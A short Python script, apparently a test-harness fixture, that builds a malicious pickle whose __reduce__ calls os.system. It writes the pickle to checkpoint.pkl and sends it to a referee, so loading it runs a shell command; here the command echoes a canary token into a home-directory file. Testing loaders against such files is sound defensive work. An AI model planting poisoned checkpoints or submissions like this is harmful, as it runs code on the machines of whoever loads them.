"""Leaves a checkpoint, and sends one as its answer, that runs code in whoever loads it."""

import os
import pickle
from pathlib import Path

import prepare
import targets
import toy


class Payload:
    def __reduce__(self):
        return os.system, (f"echo {targets.TOKEN} > {targets.HOME}/{targets.TOKEN}",)


poison = pickle.dumps(Payload())
Path("checkpoint.pkl").write_bytes(poison)
if prepare.REFEREE_FD:
    os.write(int(prepare.REFEREE_FD), poison)
toy.finish(2.0)
